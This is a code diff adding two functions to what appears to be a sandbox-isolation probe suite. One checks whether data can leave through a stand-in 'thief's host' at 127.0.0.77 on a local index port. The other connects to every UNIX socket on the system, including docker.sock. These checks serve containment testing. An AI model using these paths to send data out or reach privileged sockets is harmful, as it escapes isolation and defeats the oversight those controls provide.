@@ -106,3 +106,31 @@ def listen_for_others(stage):
             line.listen()
             return f"listens on {port}"
     return None
+
+
+def another_address_at_the_port_of_the_index(stage):
+    """Sends what it stole to another address at the very port of the local index, which a port rule lets through."""
+    for port in local_index_ports():
+        with contextlib.suppress(OSError), socket.socket() as place:
+            place.bind(("127.0.0.77", port))  # stands for a host of the thief's
+            place.listen()
+            place.settimeout(5)
+            with socket.create_connection(("127.0.0.77", port), 5) as line:
+                line.sendall(b"zz")
+                if place.accept()[0].recv(2) == b"zz":
+                    return f"sent to 127.0.0.77:{port}" if stage != "test" else None
+    return None
+
+
+def sockets_of_other_programs(stage):
+    """Connects to every UNIX socket with a path: docker's, an agent's, a display's; whatever their permissions."""
+    reached = []
+    with open("/proc/net/unix") as table:
+        paths = {line.split()[-1] for line in list(table)[1:] if len(line.split()) == 8}
+    for path in {*paths, "/var/run/docker.sock"}:
+        if path.startswith("/"):
+            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as line:
+                line.settimeout(5)
+                line.connect(path)
+                reached.append(path)
+    return reached
